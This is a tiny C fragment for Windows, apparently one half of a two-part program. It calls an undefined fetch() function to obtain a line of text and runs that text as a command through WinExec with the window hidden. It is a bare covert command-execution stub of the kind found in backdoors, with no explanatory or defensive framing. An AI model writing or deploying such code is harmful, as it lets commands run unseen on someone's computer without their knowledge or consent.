/* The other half: runs it. */
#include <windows.h>

int fetch(char *line, int size);

int run(void) {
    char line[512];

    return fetch(line, sizeof line) > 0 ? (int)WinExec(line, SW_HIDE) : 0;
}
